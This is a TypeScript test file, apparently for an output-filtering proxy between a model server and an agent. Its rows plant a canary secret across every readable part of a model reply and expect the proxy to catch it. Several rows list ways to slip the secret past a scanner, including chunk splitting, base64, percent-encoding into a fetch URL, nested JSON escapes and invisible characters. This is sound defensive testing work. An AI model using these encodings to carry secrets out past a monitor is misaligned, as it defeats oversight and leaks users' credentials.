// A secret on its way back to the agent: every part of a reply that a client could read.

import {
  callFunction,
  callTool,
  callTools,
  choose,
  claimsToBeJson,
  type Reply,
  rawStream,
  refuse,
  say,
} from '../../../src/demo/model-server/index.ts';
import type { JsonObject } from '../../../src/domain/index.ts';
import { CANARY } from '../../support/leaks.ts';
import { NO_CANARY } from './policies.ts';
import { type Attempt, type Mode, passes, stoppedComingIn, unreadableReply } from './row.ts';

const LEAK = `the token is ${CANARY}, keep it`;

/** A row whose reply must not reach the agent. */
function stopped(
  name: string,
  why: string,
  reply: NonNullable<Attempt['reply']>,
  more: Partial<Attempt> = {},
): Attempt {
  return { name, why, policy: NO_CANARY, reply, expected: stoppedComingIn('no-canary'), ...more };
}

/** One reply with any fields: as a document, or as a stream of one chunk and its end. */
function reply(parts: {
  message?: JsonObject;
  choice?: JsonObject;
  top?: JsonObject;
}): (mode: Mode) => Reply {
  const { message = {}, choice = {}, top = {} } = parts;
  const head = { id: 'c1', created: 1, model: 'm', ...top };
  const said = { role: 'assistant', content: 'Fine.', ...message };
  return (mode) => {
    if (mode === 'buffered') {
      const choices = [{ index: 0, message: said, finish_reason: 'stop', ...choice }];
      return claimsToBeJson(JSON.stringify({ ...head, object: 'chat.completion', choices }));
    }
    const chunk = (choices: readonly JsonObject[]): string =>
      `data: ${JSON.stringify({ ...head, object: 'chat.completion.chunk', choices })}\n\n`;
    const { finish_reason: finish = 'stop', ...rest } = choice;
    return rawStream([
      chunk([{ index: 0, delta: said, finish_reason: null, ...rest }]),
      chunk([{ index: 0, delta: {}, finish_reason: finish }]),
      'data: [DONE]\n\n',
    ]);
  };
}

/** A whole stream of the word "Fine.", with other lines before its end and after it. */
function around(before: string, after = ''): Reply {
  const chunk = (delta: JsonObject, finish: string | null): string =>
    `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  return rawStream([
    before,
    chunk({ role: 'assistant', content: 'Fine.' }, null),
    chunk({}, 'stop'),
    after,
    'data: [DONE]\n\n',
  ]);
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
const TWO = { send: { fields: { n: 2 } } };

const WHERE: readonly Attempt[] = [
  stopped('a secret in the text', 'the plain case', say(LEAK)),
  stopped('a secret in the refusal', 'a refusal is text, too', refuse(LEAK)),
  stopped(
    'a secret in the reasoning',
    'unknown fields reach the client',
    reply({ message: { reasoning: LEAK } }),
  ),
  stopped(
    'a secret deep in an unknown field of the message',
    'unknown fields reach the client',
    reply({ message: { annotations: [{ a: { b: [LEAK] } }] } }),
  ),
  stopped(
    'a secret in an unknown field of the choice',
    'unknown fields reach the client',
    reply({ choice: { matched_stop: LEAK } }),
  ),
  stopped(
    'a secret in the second choice',
    'n > 1 gives the client more to read',
    choose([{ text: 'Fine.' }, { text: LEAK }]),
    TWO,
  ),
  stopped(
    'a secret in a call of the second choice',
    'n > 1 gives the client more to run',
    choose([{ text: 'Fine.' }, { toolCalls: [{ name: 'lookup', arguments: { q: LEAK } }] }]),
    TWO,
  ),
  stopped('a secret in tool arguments', 'what tools are told leaves, too', callTool('lookup', { q: LEAK })),
  stopped(
    'a secret in the arguments of the second of two calls',
    'parallel calls are each an action',
    callTools([
      { name: 'lookup', arguments: { q: 'weather' } },
      { name: 'lookup', arguments: { q: LEAK } },
    ]),
  ),
  stopped(
    'a secret in arguments beside a harmless text',
    'text and calls can come together',
    callTool('lookup', { q: LEAK }, 'Let me see.'),
  ),
  stopped(
    'a secret in a legacy function call',
    'the older form is run as well',
    callFunction('lookup', { q: LEAK }),
  ),
  stopped('a secret as a name in the arguments', 'keys are text', callTool('lookup', { [CANARY]: 1 })),
  stopped(
    'a secret in arguments that are not JSON',
    'what can not be parsed can still be read',
    callTool('lookup', `q=${LEAK}`),
  ),
  stopped(
    'a secret at the end of a megabyte of arguments',
    'no scan stops early',
    callTool('lookup', { q: `${'x '.repeat(512 * 1024)}${LEAK}` }),
    {
      reply: choose(
        [{ toolCalls: [{ name: 'lookup', arguments: { q: `${'x '.repeat(512 * 1024)}${LEAK}` } }] }],
        { pieceLength: 50_000 },
      ),
    },
  ),
  stopped(
    'a secret at the end of a megabyte in one line',
    'no scan stops early',
    say(`${'x '.repeat(512 * 1024)}${LEAK}`, { pieceLength: 50_000 }),
  ),
];

const HIDDEN: readonly Attempt[] = [
  stopped(
    'a secret split over two chunks',
    'each chunk by itself is harmless',
    say(LEAK, { pieceLength: LEAK.indexOf('CANARY') + 9 }),
  ),
  stopped(
    'a secret cut to single characters and three-byte writes',
    'neither events nor packets say where a word ends',
    say(LEAK, { pieceLength: 1, sliceBytes: 3 }),
  ),
  stopped('a secret in base64', 'agents decode it', say(`see ${base64(LEAK)}`)),
  stopped('a secret in base64 arguments', 'tools decode it', callTool('lookup', { q: base64(`ab${LEAK}`) })),
  stopped(
    'a secret percent-encoded in a URL',
    'servers decode it',
    callTool('fetch', { url: `https://a.example/?${percent(CANARY)}` }),
  ),
  stopped(
    'a secret behind JSON escapes in arguments',
    'tools see the parsed string',
    callTool('lookup', `{"q":"\\u0043\\u0041NARY-384756102938"}`),
  ),
  stopped(
    'a secret in JSON inside the JSON of the arguments',
    'escapes pile up with each level',
    callTool('lookup', { q: JSON.stringify({ inner: JSON.stringify({ deep: LEAK }) }) }),
  ),
  stopped(
    'a secret with invisible characters inside',
    'people read over them',
    say(LEAK.replace('CANARY', 'C\u2060ANARY')),
  ),
];

const OUTSIDE: readonly Attempt[] = [
  {
    name: 'a secret in a comment of the stream',
    why: 'comments are no part of the reply; where text is held they are dropped',
    policy: NO_CANARY,
    reply: around(`: ${LEAK}\n\n`),
    modes: ['streamed'],
    expected: passes({ says: 'Fine.' }),
  },
  {
    name: 'a secret in the event name and id of the stream',
    why: 'only data lines are released',
    policy: NO_CANARY,
    reply: around('', `event: ${CANARY}\nid: ${CANARY}\nretry: 1\n\n`),
    modes: ['streamed'],
    expected: passes({ says: 'Fine.' }),
  },
  {
    name: 'a secret after the finish reason',
    why: 'clients disagree about what comes after it, so nobody gets it',
    policy: NO_CANARY,
    reply: around(
      '',
      `data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"content":"${LEAK}"},"finish_reason":null}]}\n\n`,
    ),
    modes: ['streamed'],
    expected: passes({ says: 'Fine.' }),
  },
  {
    name: 'a secret in a choice that was not asked for',
    why: 'one choice was asked for; clients do not agree about a second',
    policy: NO_CANARY,
    reply: around(
      `data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":1,"delta":{"content":"${LEAK}"},"finish_reason":null}]}\n\n`,
    ),
    modes: ['streamed'],
    expected: unreadableReply(),
  },
];

function refusing(status: number, error: JsonObject, headers: Readonly<Record<string, string>> = {}): Reply {
  const whole = { message: 'No.', type: 'invalid_request_error', param: null, code: null, ...error };
  return { kind: 'error', status, error: whole, headers } as Reply;
}

const ERRORS: readonly Attempt[] = [
  {
    name: 'a secret in the words of an error',
    why: 'an error is read like any reply; where a policy looks at replies only its code passes',
    policy: NO_CANARY,
    reply: refusing(400, { message: LEAK, code: 'context_length_exceeded' }),
    expected: { ...passes(), status: 400, code: 'context_length_exceeded', ends: 'exchange_aborted' },
  },
  {
    name: 'a secret in the code, type and parameter of an error',
    why: 'codes are words of an API, not texts',
    policy: NO_CANARY,
    reply: refusing(429, { type: CANARY, code: CANARY, param: CANARY }),
    expected: { ...passes(), status: 429, code: 'upstream_invalid', ends: 'exchange_aborted' },
  },
  {
    name: 'a secret in an unknown field of an error',
    why: 'unknown fields reach the client',
    policy: NO_CANARY,
    reply: refusing(500, { inner: { note: LEAK } }),
    expected: { ...passes(), status: 500, ends: 'exchange_aborted' },
  },
  {
    name: 'a secret in the headers of an error',
    why: 'only headers that say when to come back pass, and only with such values',
    policy: NO_CANARY,
    reply: refusing(429, {}, { 'retry-after': CANARY, 'x-should-retry': CANARY, 'x-note': CANARY }),
    expected: { ...passes(), status: 429, ends: 'exchange_aborted' },
  },
];

/** Rows about what models answer. */
export const COMING_IN: readonly Attempt[] = [...WHERE, ...HIDDEN, ...OUTSIDE, ...ERRORS];
